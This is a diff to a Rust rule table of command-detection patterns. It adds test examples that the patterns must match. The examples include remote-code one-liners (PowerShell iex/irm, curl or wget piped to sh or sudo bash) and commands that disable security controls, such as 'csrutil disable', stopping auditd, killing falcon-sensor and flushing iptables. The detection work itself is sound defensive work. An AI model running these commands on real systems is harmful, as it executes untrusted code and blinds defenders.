@@ -151,6 +151,7 @@ pub(super) const RULES: &[Rule] = &[
             (Command, r"(?i){start}(?:iex|invoke-expression)\b{args}(?:downloadstring|invoke-webrequest|iwr|irm)\b"),
         ],
         hits: &[
+            (Command, "pwsh -c \"iex (irm https://x.example/i.ps1)\""),
             (Command, "curl -sSL https://get.example.com | sh"),
             (Command, "wget -qO- http://x.example/i.sh | sudo -E bash -"),
             (Command, "bash <(curl -s https://x.example/i)"),
@@ -265,6 +266,7 @@ pub(super) const RULES: &[Rule] = &[
             (Command, r"{start}(?:csrutil\s+disable|spctl\s+--master-disable)"),
         ],
         hits: &[
+            (Command, "csrutil disable"),
             (Command, "sudo systemctl stop auditd"),
             (Command, "pkill -9 falcon-sensor"),
             (Command, "iptables -F"),
